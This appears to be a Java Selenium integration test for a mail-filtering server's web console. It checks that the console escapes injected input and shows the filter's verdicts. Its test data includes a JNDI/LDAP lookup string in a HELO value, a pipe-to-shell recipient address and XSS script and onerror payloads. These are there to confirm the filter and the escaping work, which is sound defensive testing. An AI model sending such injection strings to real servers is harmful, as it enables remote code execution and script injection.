// Copyright the Postern authors
// SPDX-License-Identifier: Apache-2.0
package org.postern.itest.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.postern.itest.Distribution;
import org.postern.itest.RunningServer;
import org.postern.itest.Waiting;

/** What an administrator does in the Web Console, by a real browser. */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class BrowserIT {

  private static final String SCRIPT = "<script>document.title='caught'</script>";
  private static final By VERDICTS = By.cssSelector("#postern-verdicts tbody");

  private static RunningServer server;
  private static Browser browser;

  @BeforeAll
  static void start() throws IOException {
    browser = Browser.start();
    Distribution distribution = Distribution.unpack();
    // No name server is asked: the same score everywhere.
    distribution.seed("org.postern.filter.conduct.dns", "servers = none");
    distribution.seed("org.postern.lists", "blocked = 203.0.113.0/24");
    server = RunningServer.start(distribution);
  }

  @AfterAll
  static void stop() throws IOException {
    if (server != null) {
      server.close();
    }
    if (browser != null) {
      browser.close();
    }
  }

  @Test
  @Order(1)
  void aWrongPasswordShowsNothing() {
    browser.open(server, "wrong", "/postern");
    assertThat(browser.driver().getPageSource()).doesNotContain("postern-verdicts");
  }

  @Test
  @Order(2)
  void thePageShowsRefusalsOfEachStage() throws IOException {
    browser.open(server, server.password(), "/postern");
    scan("connect", "--ip", "203.0.113.7");
    scan("helo", "--helo", "${jndi:ldap://203.0.113.1/a}");
    scan("rcpt", "--to", "|/bin/sh@example.net");
    browser.awaitText(VERDICTS, "at RCPT");
    assertThat(browser.text(VERDICTS))
        .contains("at CONNECT", "at HELO", "conduct.blocked-client", "shield.jndi-lookup");
    assertThat(browser.text(By.id("postern-filters"))).contains("shield", "conduct", "attachment");
    assertThat(browser.text(By.id("postern-flow"))).contains("Mail can flow");
    // No Exchange is here, so nothing is said about its agent.
    assertThat(browser.text(By.id("postern-exchange"))).isEmpty();
  }

  @Test
  @Order(3)
  void whatStrangersWriteIsTextAndNeverRuns() throws IOException {
    browser.open(server, server.password(), "/postern");
    scan(SCRIPT + "<img src=x onerror=\"document.title='caught'\">", "--helo", "<b>bold</b>");
    browser.awaitText(VERDICTS, SCRIPT);
    assertThat(
            browser
                .driver()
                .findElements(
                    By.cssSelector("#postern-verdicts tbody script, img[src=x], #postern b")))
        .isEmpty();
    assertThat(browser.driver().getTitle()).contains("Postern");
  }

  @Test
  @Order(4)
  void theNextMessageIsJudgedByAThresholdThatWasJustSaved() throws IOException {
    String before = scan("before the change", "--helo", "unqualified");
    assertThat(before).contains("PASS").doesNotContain("QUARANTINE");

    browser.open(server, server.password(), "/postern");
    browser.driver().findElement(By.id("postern-policy")).click();
    WebElement threshold =
        browser.await().until(ExpectedConditions.elementToBeClickable(By.name("quarantine")));
    threshold.sendKeys(Keys.chord(Keys.CONTROL, "a"), "0.5");
    browser.driver().findElement(By.xpath("//button[normalize-space()='Save']")).click();
    browser.await().until(ExpectedConditions.invisibilityOfElementLocated(By.name("quarantine")));

    Waiting.until(() -> scan("after the change", "--helo", "unqualified").contains("QUARANTINE"));
    browser.open(server, server.password(), "/postern");
    browser.awaitText(VERDICTS, "after the change");
    WebElement row =
        browser.driver().findElement(By.cssSelector("#postern-verdicts tbody tr:first-child"));
    assertThat(row.getText()).contains("QUARANTINE", "at MESSAGE", "conduct.helo-not-qualified");
    picture();
  }

  /** The picture in the documentation is taken here, where the build names a file. */
  private static void picture() throws IOException {
    String file = System.getProperty("postern.screenshot", "");
    if (!file.isEmpty()) {
      Files.write(Path.of(file), browser.driver().getScreenshotAs(OutputType.BYTES));
    }
  }

  private static String scan(String subject, String... options) throws IOException {
    Path file = server.data().resolve("tmp/browser.eml");
    Files.writeString(
        file,
        """
        From: Ann <ann@example.com>
        To: bob@example.net
        Subject: %s
        Date: Tue, 3 Nov 2026 10:00:00 +0100
        Message-ID: <1@example.com>

        At noon?
        """
            .formatted(subject));
    String[] words = new String[options.length + 2];
    words[0] = "scan";
    System.arraycopy(options, 0, words, 1, options.length);
    words[words.length - 1] = file.toString();
    return server.postern(words).output();
  }
}
